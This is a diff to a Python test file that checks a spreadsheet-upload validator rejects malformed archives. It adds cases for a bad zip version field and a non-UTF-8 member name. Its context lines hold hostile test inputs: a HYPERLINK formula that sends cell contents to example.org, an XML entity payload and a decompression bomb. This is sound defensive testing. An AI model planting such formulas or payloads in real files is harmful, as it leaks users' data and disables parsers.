@@ -16,6 +16,7 @@ from openpyxl import Workbook, load_workbook
 from registry.errors import Refused
 from registry.files.columns import recognise
 from registry.files.spreadsheet import ROWS, csv_of, read_spreadsheet, xlsx_of
+from tests.support.documents import zipped
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A2,"A")'
 
@@ -97,6 +98,15 @@ ENTITIES = (
     b'<c r="A1" t="str"><v>&b;</v></c></row></sheetData></worksheet>'
 )
 OLE = b"\xd0\xcf\x11\xe0" + bytes(600)
+
+
+def of_version(data: bytes, version: int) -> bytes:
+    """The archive whose last part says that this version is needed to unpack it."""
+    at = data.rindex(b"PK\x01\x02") + 6
+    return data[:at] + bytes([version]) + data[at + 1 :]
+
+
+NAMED_AMISS = zipped({"xl/workbook.xml": b"", "xl/é.xml": b""}).replace("é".encode(), b"\xff\xfe")
 REFUSED = [
     pytest.param(b"", "is empty", id="empty"),
     pytest.param(workbook(), "holds no rows", id="no rows"),
@@ -104,6 +114,8 @@ REFUSED = [
     pytest.param(OLE + "EncryptedPackage".encode("utf-16-le"), "locked with a password", id="encrypted"),
     pytest.param(b"PK\x03\x04 nothing", "no workbook", id="damaged zip"),
     pytest.param(workbook(["a"])[:-40], "no workbook", id="cut off"),
+    pytest.param(of_version(workbook(["a"]), 99), "no workbook", id="version"),
+    pytest.param(NAMED_AMISS, "no workbook", id="name in no UTF-8"),
     pytest.param(repacked(workbook(["a"]), "xl/worksheets/sheet1.xml", b"<no"), "damaged", id="damaged sheet"),
     pytest.param(repacked(workbook(["a"]), "xl/worksheets/sheet1.xml", ENTITIES), "damaged", id="entities"),
     pytest.param(repacked(workbook(["a"]), "xl/worksheets/sheet1.xml", bytes(20 << 20)), "unpacks to far more", id="bomb"),
